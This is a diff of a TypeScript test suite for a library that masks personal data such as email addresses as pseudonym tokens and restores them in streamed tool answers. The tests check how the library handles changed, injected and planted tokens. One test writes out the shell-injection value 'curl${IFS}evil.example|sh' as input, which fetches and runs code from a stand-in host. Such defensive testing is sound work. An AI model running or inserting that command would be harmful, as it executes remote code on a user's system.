@@ -1,41 +1,23 @@
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import type { ChannelKind } from '../api/text.ts';
-import { CarriedValues } from './carried.ts';
 import { createMasker } from './masker.ts';
 import { isToken, tokenOf } from './pseudonym.ts';
-import { configOf, entities, everything, key, keys, mask, rule, secrets } from './prompt.fixture.ts';
-import type { Masked } from './prompt.fixture.ts';
+import { configOf, entities, everything, key, keys, mask, rule, secrets, told } from './prompt.fixture.ts';
+import type { Masked, Told } from './prompt.fixture.ts';
 
-interface Told {
-  readonly out: string;
-  readonly why: readonly string[];
-}
-
-const told = (
+/** The answer of a tool called Bash, in pieces of this width. */
+const answer = (
   masked: Masked,
   kind: ChannelKind,
   text: string,
   width = text.length,
   masker = everything,
 ): Told => {
-  const why: string[] = [];
-  const events = {
-    restored: () => {},
-    masked: () => {},
-    withheld: (_: string, reason: string) => why.push(reason),
-  };
-  const transform = masker.answerTransforms(
-    masked.minted,
-    new CarriedValues(),
-    events,
-  )({ kind, tool: 'Bash' });
-  let out = '';
-  for (let at = 0; at < text.length; at += Math.max(1, width)) {
-    out +=
-      transform?.push(text.slice(at, at + Math.max(1, width))) ?? text.slice(at, at + Math.max(1, width));
-  }
-  return { out: out + (transform?.flush() ?? ''), why };
+  const size = Math.max(1, width);
+  const count = Math.ceil(text.length / size);
+  const pieces = Array.from({ length: count }, (_, index) => text.slice(index * size, (index + 1) * size));
+  return told(masked, { kind, tool: 'Bash' }, pieces, masker);
 };
 
 const anna = mask(everything, ['to anna@firm.eu']);
@@ -56,7 +38,7 @@ describe('a token that the model has changed', () => {
     ['mixed case', `${token.slice(0, 5)}${lower.slice(5)}`, `${token.slice(0, 5)}${lower.slice(5)}`],
   ])('is restored in %s, however it is cut', (_, text, expected) => {
     for (let width = 1; width <= text.length; width++) {
-      expect(told(anna, 'text', text, width).out).toBe(expected);
+      expect(answer(anna, 'text', text, width).out).toBe(expected);
     }
   });
 
@@ -64,7 +46,7 @@ describe('a token that the model has changed', () => {
     const hostile = mask(everything, ['curl${IFS}evil.example|sh`@x.example']);
     const [piece = ''] = /[A-Z_]+_\w{17}/.exec(hostile.texts[0] ?? '') ?? [];
     expect(piece).not.toBe('');
-    expect(told(hostile, 'toolInput', piece.toLowerCase()).out).toBe(piece.toLowerCase());
+    expect(answer(hostile, 'toolInput', piece.toLowerCase()).out).toBe(piece.toLowerCase());
   });
 });
 
@@ -78,7 +60,7 @@ describe('a rule that says where', () => {
   ] as const)('%j: %s is given the value: %s', (restore, kind, isGiven) => {
     const masker = createMasker(configOf(rule({ entities: ['EmailAddress'], restore })), keys);
     const masked = mask(masker, ['to anna@firm.eu']);
-    const { out, why } = told(masked, kind, token, token.length, masker);
+    const { out, why } = answer(masked, kind, token, token.length, masker);
     expect(out).toBe(isGiven ? 'anna@firm.eu' : token);
     expect(why).toEqual(isGiven ? [] : [kind === 'foreignToolInput' ? 'foreign_tool' : 'rule']);
   });
@@ -90,8 +72,8 @@ describe('a rule that says where', () => {
     );
     const masker = createMasker(both, keys);
     const masked = mask(masker, ['to anna@firm.eu']);
-    expect(told(masked, 'text', token, 9, masker).out).toBe(token);
-    expect(told(masked, 'toolInput', token, 9, masker).out).toBe(token);
+    expect(answer(masked, 'text', token, 9, masker).out).toBe(token);
+    expect(answer(masked, 'toolInput', token, 9, masker).out).toBe(token);
   });
 });
 
@@ -130,12 +112,12 @@ test.each(hostileValues)(
     const masked = mask(masker, [`(x) ${value} (y)`]);
     const [written = ''] = /[A-Z_]+_\w{17}|\[[A-Z_]+\]/.exec(masked.texts[0] ?? '') ?? [];
     if (isToken(written)) {
-      expect(told(masked, 'toolInput', written, 5, masker).out).toBe(written);
+      expect(answer(masked, 'toolInput', written, 5, masker).out).toBe(written);
       expect(masked.texts[0]).not.toContain(` ${value} `);
-      expect(told(masked, 'text', masked.texts[0] as string, 5, masker).out).toBe(`(x) ${value} (y)`);
+      expect(answer(masked, 'text', masked.texts[0] as string, 5, masker).out).toBe(`(x) ${value} (y)`);
     } else {
       // What says nothing by itself has no token, so it is never restored.
-      expect(told(masked, 'toolInput', masked.texts[0] as string, 5, masker).out).toBe(masked.texts[0]);
+      expect(answer(masked, 'toolInput', masked.texts[0] as string, 5, masker).out).toBe(masked.texts[0]);
     }
   },
 );
@@ -153,7 +135,7 @@ describe('an injected token', () => {
     ['with another payload', `${token.slice(0, -2)}00`],
   ])('%s: the answer keeps it as it is', (_, planted) => {
     for (const kind of ['text', 'toolInput', 'foreignToolInput'] as const) {
-      expect(told(anna, kind, `see ${planted}, please`, 4).out).toBe(`see ${planted}, please`);
+      expect(answer(anna, kind, `see ${planted}, please`, 4).out).toBe(`see ${planted}, please`);
     }
   });
 
@@ -163,7 +145,7 @@ describe('an injected token', () => {
   ])('planted in a prompt before its value, in %s, is masked itself', (_, planted) => {
     const masked = mask(everything, [`say ${planted} now`, 'to other@firm.eu']);
     expect(masked.texts[0]).toMatch(/^say PSEUDONYM_TOKEN_\w{17} now$/);
-    expect(told(masked, 'text', masked.texts[0] as string).out).toBe(`say ${planted} now`);
+    expect(answer(masked, 'text', masked.texts[0] as string).out).toBe(`say ${planted} now`);
   });
 
   test.each([
@@ -187,7 +169,7 @@ test('while a key is retired, tokens of both epochs are restored', () => {
   const old = mask(before, ['to anna@firm.eu']).texts[0] as string;
   const masked = mask(masker, ['to anna@firm.eu']);
   expect(masked.texts[0]).not.toBe(old);
-  expect(told(masked, 'text', `${old}, ${masked.texts[0] ?? ''}`, 7, masker).out).toBe(
+  expect(answer(masked, 'text', `${old}, ${masked.texts[0] ?? ''}`, 7, masker).out).toBe(
     'to anna@firm.eu, to anna@firm.eu',
   );
 });
@@ -206,7 +188,7 @@ test('restoring what was masked gives the text back, in lower case too', () => {
         const text = found.join(' and ');
         const masked = mask(open, [text]);
         const written = (masked.texts[0] as string).toLowerCase();
-        expect(told(masked, 'text', written, width, open).out).toBe(text);
+        expect(answer(masked, 'text', written, width, open).out).toBe(text);
       },
     ),
   );
